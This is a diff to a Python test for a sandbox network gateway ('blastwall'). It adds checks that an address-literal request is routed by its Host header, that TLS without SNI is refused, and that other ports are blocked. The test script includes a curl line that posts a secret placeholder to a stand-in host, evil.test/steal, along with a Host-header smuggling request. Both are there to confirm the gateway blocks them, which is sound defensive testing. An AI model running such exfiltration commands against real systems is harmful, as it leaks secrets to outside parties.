@@ -170,7 +170,9 @@ def test_transparent_redirection_decides_by_sni_and_host(home, workspace, scratc
             {UNPROXIED} curl -sS -m 10 --cacert ca.pem https://api.test/hello
             {UNPROXIED} curl -sS -m 10 -d '{SECRET}' http://evil.test/steal; echo
             {UNPROXIED} curl -sS -m 10 --cacert ca.pem https://evil.test/steal; echo evil-tls-rc=$?
-            {UNPROXIED} curl -sS -m 10 -k -H 'Host: api.test' https://{address}/nosni; echo nosni-rc=$?
+            {UNPROXIED} curl -sS -m 10 -k -H 'Host: api.test' https://192.0.2.1/nosni; echo nosni-rc=$?
+            {UNPROXIED} curl -sS -m 10 -H 'Host: api.test' http://192.0.2.1/byhost; echo
+            {UNPROXIED} curl -sS -m 10 http://192.0.2.1:8080/otherport; echo otherport-rc=$?
             {UNPROXIED} curl -sS -m 10 -H 'Host: evil.test' http://api.test/smuggle; echo
             python3 -c 'import socket; print("resolved", socket.gethostbyname("anything.invalid"))'
         """))
@@ -178,11 +180,13 @@ def test_transparent_redirection_decides_by_sni_and_host(home, workspace, scratc
         session.close()
         up.close()
     log = os.path.join(env["XDG_STATE_HOME"], "blastwall", "gateway", "gateway.log")
-    assert out.count("hello from upstream") == 2, out + open(log).read()[-3000:]
+    # An address literal is ignored for port 80 (the Host header decides: /byhost is served), TLS
+    # without SNI is refused, any other port is not redirected and has no route out.
+    assert out.count("hello from upstream") == 3, out + open(log).read()[-3000:]
     assert "refused POST evil.test:80" in out, out
-    assert "evil-tls-rc=0" not in out and "nosni-rc=0" not in out
+    assert "evil-tls-rc=0" not in out and "nosni-rc=0" not in out and "otherport-rc=0" not in out
     assert "resolved 10.201." in out  # Every name is the gateway; no query left the host.
-    assert [r[1] for r in up.requests] == ["/hello", "/hello"], up.requests
+    assert [r[1] for r in up.requests] == ["/hello", "/hello", "/byhost"], up.requests
 
 
 def test_sessions_cannot_reach_the_host_or_each_other(home, workspace, scratch, env):
